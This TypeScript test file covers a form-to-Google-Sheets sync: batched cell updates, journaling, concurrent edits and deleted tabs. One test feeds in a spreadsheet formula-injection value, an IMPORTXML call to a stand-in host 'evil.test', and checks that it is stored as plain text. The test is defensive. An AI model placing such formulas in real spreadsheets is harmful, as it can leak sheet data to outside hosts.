import { describe, expect, it } from 'vitest';
import type { Request } from '../../../../sync/sheet/google/index.ts';
import { publish } from './bench.ts';

/** Publishes a form and listens to every batch that is sent from then on. */
function listening(count: number) {
  const bench = publish(count, 'one', i => ({ narrative: `原本${i}` }));
  const sent: (readonly Request[])[] = [];
  const journal: (string | null)[] = [];
  const { write } = bench.side;
  Object.assign(bench.side, {
    write: (requests: readonly Request[]) => {
      sent.push(requests);
      journal.push(bench.home.intent?.id ?? null);
      return write(requests);
    },
  });
  return { ...bench, sent, journal };
}

describe('what is sent', () => {
  it('is the changed cells alone, as text, in one batch that bears its name', async () => {
    const { home, sync, sent } = listening(6);
    home.edit('row-1', 'narrative', '=IMPORTXML("https://evil.test","//a")');
    home.edit('row-4', 'result', 'done');
    home.edit('row-5', 'remarks', '+1');
    await sync();
    expect(sent).toHaveLength(1);
    const [batch] = sent as [readonly Request[]];
    const cells = batch.flatMap(({ updateCells }) => updateCells ?? []);
    expect(cells).toHaveLength(3);
    for (const { range, rows, fields } of cells) {
      expect((range?.endRowIndex ?? 0) - (range?.startRowIndex ?? 0)).toBe(1);
      expect((range?.endColumnIndex ?? 0) - (range?.startColumnIndex ?? 0)).toBe(1);
      expect(fields).toBe('userEnteredValue');
      expect(Object.keys(rows?.[0]?.values?.[0]?.userEnteredValue ?? {})).toEqual(['stringValue']);
    }
    expect(batch.filter(each => 'createDeveloperMetadata' in each || 'updateDeveloperMetadata' in each)).toHaveLength(
      1,
    );
    expect(batch).toHaveLength(4);
  });

  it('is kept in the journal before it is sent, and closed once it was read again', async () => {
    const { home, sync, journal } = listening(2);
    home.edit('row-0', 'narrative', '新內容');
    await sync();
    expect(journal).toEqual(['op-1']);
    expect(home.intent).toBeNull();
    expect(home.base.get('row-0')?.answer.narrative).toBe('新內容');
  });

  it('waits where somebody changed the spreadsheet between reading and sending', async () => {
    const { home, sync, sent, people, side } = listening(3);
    home.edit('row-0', 'narrative', '我們的');
    const { version } = side;
    let asked = 0;
    Object.assign(side, {
      version: () => {
        if (++asked === 2) people.type('row-0', 'narrative', '他們搶先');
        return version();
      },
    });
    expect(await sync()).toMatchObject({ kind: 'waiting' });
    expect(sent).toHaveLength(0);
    expect([home.says('row-0', 'narrative'), people.says('row-0', 'narrative')]).toEqual(['我們的', '他們搶先']);
  });

  it('is nothing at all, and nothing is read, where nothing happened', async () => {
    const { sync, sent, side } = listening(3);
    await sync();
    Object.assign(side, { read: () => Promise.reject(new Error('not to be read')) });
    expect(await sync()).toMatchObject({ kind: 'settled', sent: 0 });
    expect(sent).toEqual([]);
  });

  it('puts the rows of a tab that was deleted back on another', async () => {
    const { people, sync, book, home } = publish(6, 'unit', i => ({ narrative: `原本${i}` }));
    book.tabs = book.tabs.filter(({ properties }) => properties.title !== '社會課');
    book.version += 1;
    expect(await sync()).toMatchObject({ kind: 'settled' });
    expect(people.rowIds.toSorted()).toEqual([0, 1, 2, 3, 4, 5].map(i => `row-${i}`));
    expect([home.says('row-1', 'narrative'), people.says('row-1', 'narrative')]).toEqual(['原本1', '原本1']);
  });
});
